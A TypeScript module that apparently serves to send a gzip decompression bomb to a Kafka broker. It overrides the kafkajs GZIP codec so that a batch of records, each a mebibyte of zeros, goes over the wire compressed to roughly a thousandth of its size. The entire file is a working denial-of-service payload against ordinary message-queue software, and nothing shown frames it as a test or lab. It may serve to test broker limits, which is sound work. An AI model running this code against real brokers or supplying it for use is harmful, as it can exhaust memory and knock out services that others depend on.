import { once } from 'node:events';
import { createGzip } from 'node:zlib';
import kafkajs, { Kafka, logLevel } from 'kafkajs';

const { CompressionCodecs, CompressionTypes } = kafkajs;
const MEBIBYTE = 1024 * 1024;

/**
 * Sends one batch of records of a mebibyte of zeros each, packed into a thousandth of it.
 *
 * @returns how many bytes went over the wire
 */
export async function sendGzipBomb(
  bootstrapServers: string,
  { topic, partition, mebibytes }: { topic: string; partition: number; mebibytes: number },
): Promise<number> {
  const packed = await packedRecords(mebibytes);
  const before = CompressionCodecs[CompressionTypes.GZIP];
  CompressionCodecs[CompressionTypes.GZIP] = () => ({
    compress: () => Promise.resolve(packed),
    decompress: () => Promise.reject(new Error('this process only sends')),
  });
  const producer = new Kafka({ brokers: [bootstrapServers], logLevel: logLevel.NOTHING }).producer();
  try {
    await producer.connect();
    const messages = Array.from({ length: mebibytes }, () => ({ partition, value: 'replaced' }));
    await producer.send({ topic, messages, compression: CompressionTypes.GZIP });
  } finally {
    await producer.disconnect();
    CompressionCodecs[CompressionTypes.GZIP] = before;
  }
  return packed.length;
}

/** Records of Kafka's format 2, packed as they are made. */
async function packedRecords(count: number): Promise<Buffer> {
  const gzip = createGzip();
  const chunks: Buffer[] = [];
  gzip.on('data', (chunk: Buffer) => chunks.push(chunk));
  const zeros = Buffer.alloc(MEBIBYTE);
  for (let index = 0; index < count; index += 1) {
    // attributes, timestamp delta, offset delta, no key, length of the value; after the value: no headers
    const head = Buffer.concat([Buffer.from([0, 0]), varint(index), varint(-1), varint(MEBIBYTE)]);
    const record = [varint(head.length + MEBIBYTE + 1), head, zeros, varint(0)];
    for (const part of record) if (!gzip.write(part)) await once(gzip, 'drain');
  }
  gzip.end();
  await once(gzip, 'end');
  return Buffer.concat(chunks);
}

/** Zigzag, seven bits a byte. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value >= 0 ? value * 2 : -value * 2 - 1;
  for (; rest > 0x7f; rest = Math.floor(rest / 128)) bytes.push((rest & 0x7f) | 0x80);
  return Buffer.from([...bytes, rest]);
}
